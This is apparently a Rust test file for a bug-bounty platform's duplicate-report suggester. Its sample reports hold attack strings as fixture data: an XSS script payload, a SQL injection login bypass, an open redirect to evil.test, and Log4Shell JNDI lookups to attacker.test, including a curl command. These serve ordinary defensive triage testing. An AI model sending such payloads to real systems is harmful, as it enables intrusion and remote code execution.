//! Duplicate suggestions on realistic reports, and the score's bounds.

use proptest::prelude::*;

use super::*;
use crate::reference::ReferencePrefix;

fn reference(sequence: u32) -> Reference {
    Reference::new(ReferencePrefix::default(), 2026, sequence)
}

fn text<'a>(
    title: &'a str,
    summary: &'a str,
    steps: &'a str,
    asset: Option<&'a str>,
) -> ReportText<'a> {
    ReportText {
        title,
        summary,
        steps,
        asset,
    }
}

struct Archive {
    references: Vec<Reference>,
}

impl Archive {
    fn new(count: u32) -> Self {
        Archive {
            references: (1..=count).map(reference).collect(),
        }
    }

    fn candidates<'a>(&'a self, texts: &[ReportText<'a>]) -> Vec<Candidate<'a>> {
        texts
            .iter()
            .zip(&self.references)
            .zip(1..)
            .map(|((&text, reference), id)| Candidate {
                id,
                reference,
                text,
            })
            .collect()
    }
}

const NEW_XSS: ReportText<'static> = ReportText {
    title: "Reflected XSS in the search page via the q parameter",
    summary: "The q parameter of /search is echoed into the results page without encoding, so \
              a crafted link runs script in the victim's session.",
    steps:
        "1. Open https://shop.example.com/search?q=<script>alert(1)</script>\n2. The alert fires.",
    asset: Some("https://shop.example.com"),
};

fn archive_texts() -> [ReportText<'static>; 4] {
    [
        text(
            "SQL injection in login form",
            "The username field of /login is concatenated into a SQL query.",
            "Submit ' OR 1=1 -- as the username at /login and you are signed in as admin.",
            Some("https://shop.example.com/"),
        ),
        text(
            "XSS on search results (q param)",
            "Search term from the q parameter is reflected in the page unescaped.",
            "Visit /search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E",
            Some("shop.example.com"),
        ),
        text(
            "Open redirect in OAuth callback",
            "The redirect_uri parameter accepts any host.",
            "GET /oauth/callback?redirect_uri=https://evil.test",
            Some("https://id.example.com"),
        ),
        text(
            "Log4Shell (CVE-2021-44228) in the reporting service",
            "The reporting service logs the User-Agent header with a vulnerable log4j.",
            "Send User-Agent: ${jndi:ldap://attacker.test/a} to /api/v1/report",
            Some("reports.example.com"),
        ),
    ]
}

#[test]
fn finds_the_near_duplicate_first() {
    let archive = Archive::new(4);
    let candidates = archive.candidates(&archive_texts());
    let suggestions = suggest_duplicates(&NEW_XSS, &candidates, 5, 0.0);
    let best = &suggestions[0];
    assert_eq!(best.id, 2, "{suggestions:#?}");
    assert_eq!(best.reference, reference(2));
    assert!(best.score > 0.5, "{suggestions:#?}");
    assert_eq!(best.reasons[0], "same asset");
    assert!(
        best.reasons[1].starts_with("title words in common: "),
        "{:?}",
        best.reasons
    );
    assert!(best.reasons[1].contains("xss") && best.reasons[1].contains("search"));
    for other in &suggestions[1..] {
        assert!(other.score < 0.35, "{other:?}");
    }
}

#[test]
fn a_threshold_leaves_out_the_unrelated() {
    let archive = Archive::new(4);
    let candidates = archive.candidates(&archive_texts());
    let suggestions = suggest_duplicates(&NEW_XSS, &candidates, 5, 0.4);
    let ids: Vec<i64> = suggestions.iter().map(|s| s.id).collect();
    assert_eq!(ids, [2]);
}

#[test]
fn rare_identifiers_carry_the_match() {
    let archive = Archive::new(4);
    let candidates = archive.candidates(&archive_texts());
    let new = text(
        "Remote code execution through JNDI lookup",
        "CVE-2021-44228 again: the reporting API still logs headers with log4j 2.14.",
        "curl -H 'X-Api-Version: ${jndi:ldap://x.test/a}' https://reports.example.com/api/v1/report",
        None,
    );
    let suggestions = suggest_duplicates(&new, &candidates, 1, 0.0);
    assert_eq!(suggestions.len(), 1);
    assert_eq!(suggestions[0].id, 4);
    let reasons = suggestions[0].reasons.join("; ");
    assert!(
        reasons.starts_with("also in common: cve-2021-44228, api/v1/report"),
        "{reasons}"
    );
    assert!(!reasons.contains("same asset"));
}

#[test]
fn same_host_counts_for_less_than_same_asset() {
    let archive = Archive::new(2);
    let words = "Stored XSS in the profile bio field";
    let candidates = archive.candidates(&[
        text(words, "", "", Some("https://shop.example.com/profile")),
        text(words, "", "", Some("shop.example.com/checkout")),
    ]);
    let new = text(words, "", "", Some("http://www.shop.example.com/profile/"));
    let suggestions = suggest_duplicates(&new, &candidates, 5, 0.0);
    assert_eq!(suggestions[0].id, 1);
    assert_eq!(suggestions[0].reasons[0], "same asset");
    assert!((suggestions[0].score - 1.0).abs() < 1e-9);
    assert_eq!(suggestions[1].reasons[0], "same host");
    assert!((suggestions[1].score - 0.9).abs() < 1e-9);
}

#[test]
fn different_assets_lower_the_score() {
    let archive = Archive::new(2);
    let words = "Missing rate limit on password reset";
    let candidates = archive.candidates(&[
        text(words, "", "", Some("id.example.com")),
        text(words, "", "", None),
    ]);
    let new = text(words, "", "", Some("shop.example.com"));
    let suggestions = suggest_duplicates(&new, &candidates, 5, 0.0);
    assert_eq!(suggestions[0].id, 2);
    assert!((suggestions[0].score - 1.0).abs() < 1e-9);
    assert!((suggestions[1].score - 0.8).abs() < 1e-9);
}

#[test]
fn limit_order_and_nothing_in_common() {
    let archive = Archive::new(3);
    let candidates = archive.candidates(&[
        text("Clickjacking on settings page", "", "", None),
        text("Clickjacking on settings page", "", "", None),
        text("Weak TLS ciphers", "", "", None),
    ]);
    let new = text("Clickjacking on settings page", "", "", None);
    let suggestions = suggest_duplicates(&new, &candidates, 1, 0.0);
    assert_eq!(suggestions.len(), 1);
    assert_eq!(suggestions[0].id, 1, "ties go to the lower id");
    let all = suggest_duplicates(&new, &candidates, 10, 0.0);
    assert_eq!(
        all.len(),
        2,
        "a candidate with nothing in common is left out"
    );
    assert!(suggest_duplicates(&new, &[], 10, 0.0).is_empty());
}

#[test]
fn words_keep_identifiers_and_drop_filler() {
    let found = words("Log4Shell CVE-2021-44228 in /api/v1/login?user_id=5, see e.g. Example.COM.");
    for expected in [
        "log4shell",
        "cve-2021-44228",
        "cve",
        "44228",
        "api/v1/login",
        "api",
        "v1",
        "login",
        "user_id",
        "user",
        "id",
        "example.com",
        "see",
    ] {
        assert!(
            found.iter().any(|w| w == expected),
            "{expected} missing from {found:?}"
        );
    }
    for dropped in ["in", "5", "/api/v1/login", "example.com."] {
        assert!(
            !found.iter().any(|w| w == dropped),
            "{dropped} kept in {found:?}"
        );
    }
}

#[test]
fn draft_fields_are_compared() {
    let draft = ReportDraft {
        asset: Some("shop.example.com".to_owned()),
        weakness: None,
        severity: None,
        title: "t".to_owned(),
        summary: "s".to_owned(),
        steps_to_reproduce: "r".to_owned(),
        impact: "i".to_owned(),
        mitigation: None,
        contact: Default::default(),
        credit: false,
        third_party: Default::default(),
    };
    let compared = ReportText::of_draft(&draft);
    assert_eq!(
        (
            compared.title,
            compared.summary,
            compared.steps,
            compared.asset
        ),
        ("t", "s", "r", Some("shop.example.com"))
    );
}

fn any_text() -> impl Strategy<Value = (String, String, String, Option<String>)> {
    let prose = "[a-zA-Z0-9 /._:?=-]{0,60}";
    (
        prose,
        prose,
        prose,
        proptest::option::of("(https://)?[a-c]{1,3}\\.example\\.com(/[a-c]{0,3})?"),
    )
}

fn as_text(fields: &(String, String, String, Option<String>)) -> ReportText<'_> {
    text(&fields.0, &fields.1, &fields.2, fields.3.as_deref())
}

proptest! {
    #[test]
    fn scores_stay_between_zero_and_one(
        new in any_text(),
        others in proptest::collection::vec(any_text(), 0..6),
    ) {
        let archive = Archive::new(others.len() as u32);
        let texts: Vec<ReportText> = others.iter().map(as_text).collect();
        let candidates = archive.candidates(&texts);
        for suggestion in suggest_duplicates(&as_text(&new), &candidates, 10, 0.0) {
            prop_assert!((0.0..=1.0).contains(&suggestion.score), "{:?}", suggestion);
            prop_assert!(!suggestion.reasons.is_empty());
        }
    }

    #[test]
    fn identical_text_scores_highest(
        new in any_text(),
        others in proptest::collection::vec(any_text(), 0..6),
    ) {
        let archive = Archive::new(others.len() as u32 + 1);
        let mut texts: Vec<ReportText> = others.iter().map(as_text).collect();
        texts.push(as_text(&new));
        let candidates = archive.candidates(&texts);
        let identical_id = candidates.len() as i64;
        let suggestions = suggest_duplicates(&as_text(&new), &candidates, 10, 0.0);
        let identical = suggestions.iter().find(|s| s.id == identical_id).map_or(0.0, |s| s.score);
        for suggestion in &suggestions {
            prop_assert!(suggestion.score <= identical + 1e-9, "{:?} beats {}", suggestion, identical);
        }
    }
}
